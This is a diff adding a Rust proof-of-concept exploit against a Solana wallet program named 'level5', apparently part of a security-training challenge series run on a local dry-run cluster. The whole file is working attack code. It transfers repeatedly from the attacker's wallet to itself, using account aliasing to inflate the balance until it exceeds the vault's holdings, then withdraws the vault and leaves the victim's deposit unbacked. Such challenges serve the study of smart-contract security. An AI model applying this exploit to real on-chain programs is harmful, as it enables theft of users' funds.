@@ -0,0 +1,109 @@
+use solana_client::rpc_client::RpcClient;
+
+use solana_program::{
+        pubkey::Pubkey,
+        instruction::{AccountMeta, Instruction},
+    };
+use solana_sdk::{
+        signature::{Keypair, read_keypair_file},
+        signer::Signer,
+        commitment_config::CommitmentConfig,
+        transaction::Transaction,
+        native_token::LAMPORTS_PER_SOL,
+    };
+
+use borsh::{BorshSerialize, BorshDeserialize};
+
+use owo_colors::OwoColorize;
+
+use actors::Actors;
+
+use level5::{get_vault_address, get_wallet_address, Wallet, WalletInstruction};
+
+fn send(env: &RpcClient, instructions: &[Instruction], payer: &Keypair) {
+    let recent_blockhash = env.get_latest_blockhash().unwrap();
+    let tx = Transaction::new_signed_with_payer(
+        instructions,
+        Some(&payer.pubkey()),
+        &[payer],
+        recent_blockhash,
+    );
+    dryrun::send(env, &tx);
+}
+
+fn balance(env: &RpcClient, wallet: &Pubkey) -> u64 {
+    Wallet::try_from_slice(&dryrun::get_account(env, wallet).unwrap().data).unwrap().balance
+}
+
+fn main() {
+
+    let programa_keypair = read_keypair_file("./target/so/level5-keypair.json").unwrap();
+    let programa = programa_keypair.pubkey();
+
+    let cliente1 = dryrun::url();
+
+    let mut actors = Actors::new();
+    // Not the PoC's roles: their wallets would already be initialized when both run
+    let victim = actors.get("victim-native");
+    let hacker = actors.get("hacker-native");
+
+    let env = RpcClient::new_with_commitment(cliente1, CommitmentConfig::confirmed());
+    println!("{}", actors.legend().blue());
+
+    dryrun::airdrop(&env, &victim.pubkey(), 10 * LAMPORTS_PER_SOL);
+    dryrun::airdrop(&env, &hacker.pubkey(), 2 * LAMPORTS_PER_SOL);
+
+    let (victim_wallet, _) = get_wallet_address(victim.pubkey(), programa);
+    let (hacker_wallet, _) = get_wallet_address(hacker.pubkey(), programa);
+    let (vault, _) = get_vault_address(programa);
+
+    println!("");
+    println!("{}", "Victim deposits 5 SOL, hacker deposits 1 SOL...".purple().bold());
+    println!("");
+    send(&env, &[
+        level5::initialize(programa, victim.pubkey()),
+        level5::deposit(programa, victim.pubkey(), victim.pubkey(), 5 * LAMPORTS_PER_SOL),
+    ], &victim);
+    send(&env, &[
+        level5::initialize(programa, hacker.pubkey()),
+        level5::deposit(programa, hacker.pubkey(), hacker.pubkey(), LAMPORTS_PER_SOL),
+    ], &hacker);
+
+    let vault_lamports = dryrun::get_balance(&env, &vault);
+    println!("{} {:?}", "Vault lamports:".blue().bold(), vault_lamports.blue());
+    println!("{} {:?}", "Victim balance:".blue().bold(), balance(&env, &victim_wallet).blue());
+    println!("{} {:?}", "Hacker balance:".blue().bold(), balance(&env, &hacker_wallet).blue());
+
+    // Source and destination are the same account, the program writes the destination last
+    println!("");
+    println!("{}", "Transferring from the hacker wallet to itself...".purple().bold());
+    println!("");
+    let mut hacker_balance = balance(&env, &hacker_wallet);
+    while hacker_balance < vault_lamports {
+        let tx_transfer = Instruction {
+            program_id: programa,
+            accounts: vec![
+                AccountMeta::new(hacker_wallet, false),
+                AccountMeta::new(hacker_wallet, false),
+                AccountMeta::new_readonly(hacker.pubkey(), true),
+            ],
+            data: WalletInstruction::Transfer { amount: hacker_balance }.try_to_vec().unwrap(),
+        };
+        send(&env, &[tx_transfer], &hacker);
+        hacker_balance = balance(&env, &hacker_wallet);
+        println!("{} {:?}", "Hacker balance:".green().bold(), hacker_balance.green());
+    }
+
+    println!("");
+    println!("{}", "Withdrawing the vault...".purple().bold());
+    println!("");
+    let loot = vault_lamports - env.get_minimum_balance_for_rent_exemption(0).unwrap();
+    let hacker_before = dryrun::get_balance(&env, &hacker.pubkey());
+    send(&env, &[level5::withdraw(programa, hacker.pubkey(), hacker.pubkey(), loot)], &hacker);
+
+    println!("{} {:?}", "Vault lamports:".red().bold(), dryrun::get_balance(&env, &vault).red());
+    println!("{} {:?}", "Victim balance (unbacked):".red().bold(), balance(&env, &victim_wallet).red());
+    println!("{} {:?}", "Hacker earned (minus fees):".green().bold(),
+    (dryrun::get_balance(&env, &hacker.pubkey()) - hacker_before).green());
+    println!("");
+}